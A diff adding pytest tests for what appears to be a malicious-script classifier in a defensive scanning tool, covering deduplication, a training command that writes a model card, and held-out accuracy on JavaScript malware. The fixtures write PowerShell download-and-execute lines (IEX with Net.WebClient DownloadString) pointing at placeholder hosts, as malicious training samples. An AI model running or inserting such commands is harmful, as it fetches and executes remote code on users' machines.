@@ -1,0 +1,58 @@
+"""The script classifier: trained by command, saved with a model card, better than chance on held-out files."""
+
+from __future__ import annotations
+
+import random
+from pathlib import Path
+
+import numpy as np
+import pytest
+from typer.testing import CliRunner
+
+from phagocyte.analysers.classifier import ScriptClassifier, dedupe
+from phagocyte.analysers.scan import Scanner
+from phagocyte.cli.app import app
+from tests.conftest import evaldata
+
+
+def test_dedupe_drops_copies_and_contents_under_both_labels() -> None:
+    texts, labels, stats = dedupe(["a", "a", "b", "c", "c"], [1, 1, 0, 1, 0])
+    assert sorted(zip(texts, labels, strict=True)) == [("a", 1), ("b", 0)]
+    assert stats == {"input": 5, "distinct": 3, "conflicting": 1}
+
+
+def test_scan_train_command_writes_a_model_and_card(tmp_path: Path) -> None:
+    mal, ben = tmp_path / "mal", tmp_path / "ben"
+    mal.mkdir()
+    ben.mkdir()
+    for i in range(12):
+        (mal / f"m{i}.ps1").write_text(f"$u{i} = 'http://198.51.100.{i}/p.ps1'\n"
+                                       "IEX (New-Object Net.WebClient).DownloadString($u" + str(i) + ")\n")
+        (ben / f"b{i}.ps1").write_text(f"param($Path{i})\nGet-ChildItem $Path{i} | Where-Object Length -gt {i}\n")
+    model = tmp_path / "model"
+    res = CliRunner().invoke(app, ["scan-train", "-l", "powershell", "--malicious", str(mal), "--benign", str(ben),
+                                   "--model", str(model), "--licences", "written for this test"])
+    assert res.exit_code == 0, res.output
+    card = (model / "MODEL_CARD.md").read_text()
+    assert "written for this test" in card and "powershell" in card
+    clf = ScriptClassifier.load(model)
+    v = Scanner(model=clf).scan_text("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')")
+    assert any(r.source == "model" for r in v.reasons)
+    assert clf.predict_proba_text("powershell", "Get-ChildItem C:\\ | Where-Object Length -gt 3") < 0.5
+
+
+@pytest.mark.evaldata
+def test_javascript_model_separates_held_out_files() -> None:
+    from sklearn.metrics import roc_auc_score
+
+    root = evaldata("javascript")
+    rng = random.Random(6)
+    mal = rng.sample(sorted((root / "javascript_malware_collection").rglob("*.js")), 90)
+    ben = rng.sample(sorted((root / "benign_js_npm").rglob("*.js")), 90)
+    data = [(p.read_text("latin-1"), 1) for p in mal] + [(p.read_text("latin-1"), 0) for p in ben]
+    rng.shuffle(data)
+    train, test = data[:120], data[120:]
+    clf = ScriptClassifier()
+    clf.fit("javascript", [t for t, _ in train], [y for _, y in train])
+    p = clf.predict_proba("javascript", [t for t, _ in test])
+    assert roc_auc_score(np.array([y for _, y in test]), p) > 0.9
